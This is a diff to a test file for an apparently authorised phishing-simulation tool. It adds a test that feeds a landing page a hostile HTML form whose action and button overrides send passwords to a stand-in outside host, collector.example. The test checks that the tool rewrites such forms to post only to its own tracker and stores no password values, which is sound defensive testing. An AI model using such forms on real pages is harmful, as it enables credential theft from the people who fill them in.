@@ -6,6 +6,7 @@ from __future__ import annotations
 import logging
 import re
 from collections.abc import Iterator
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
@@ -18,7 +19,7 @@ from bastion.cli.main import main
 from bastion.phish.sender import SmtpSettings, send_campaign
 from bastion.store.db import Store
 from bastion.store.models import AuditEvent
-from bastion.store.phish import PhishEvent
+from bastion.store.phish import PhishCampaign, PhishEvent
 
 FORGED = "AAAAAAAAAAAAAAAAAAAAAA.bm90LWEtc2lnbmF0dXJl"
 
@@ -243,3 +244,48 @@ def test_submitted_password_is_in_no_table_on_either_back_end(any_store: Store, 
         fields = session.scalars(select(PhishEvent.fields).where(PhishEvent.kind == "submit")).all()
     assert fields == [["password", "username"]] and campaign_id
     assert dumped and not any(PASSWORD_TYPED in row for row in dumped)
+
+
+HOSTILE_FORM = """<form class="login" action="https://collector.example/x" method=GET
+  enctype="multipart/form-data" target='_blank'>
+<label>Password <input type="password" name="password" formaction="/elsewhere"></label>
+<button formaction="https://collector.example/y" formmethod="get" formenctype="text/plain">Sign in</button>
+</form><FORM><input name="pin"></FORM>"""
+
+
+class _Forms(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in ("form", "button", "input"):
+            self.tags.append((tag, dict(attrs)))
+
+
+def test_every_landing_form_posts_to_the_tracker_whatever_its_author_wrote(
+    store: Store, mailbox: Mailbox, client: TestClient
+) -> None:
+    campaign_id, tokens = _sent_campaign(store, mailbox)
+    with store.write() as session:
+        campaign = session.get(PhishCampaign, campaign_id)
+        assert campaign is not None
+        campaign.landing_html = HOSTILE_FORM
+    token = tokens["ana.diaz@example.com"]
+    page = client.get(f"/p/c/{token}")
+    assert page.status_code == 200 and "collector.example" not in page.text
+    parsed = _Forms()
+    parsed.feed(page.text)
+    forms = [attrs for tag, attrs in parsed.tags if tag == "form"]
+    assert forms == [
+        {"method": "post", "action": f"/p/s/{token}", "class": "login"},
+        {"method": "post", "action": f"/p/s/{token}"},
+    ]
+    overrides = [name for _, attrs in parsed.tags for name in attrs if name.startswith("form")]
+    assert overrides == [] and len(parsed.tags) == 5
+    sent = client.post(forms[0]["action"] or "", data={"password": PASSWORD_TYPED})
+    assert sent.status_code == 303
+    with store.read() as session:
+        assert list(session.scalars(select(PhishEvent.fields).where(PhishEvent.kind == "submit"))) == [
+            ["password"]
+        ]
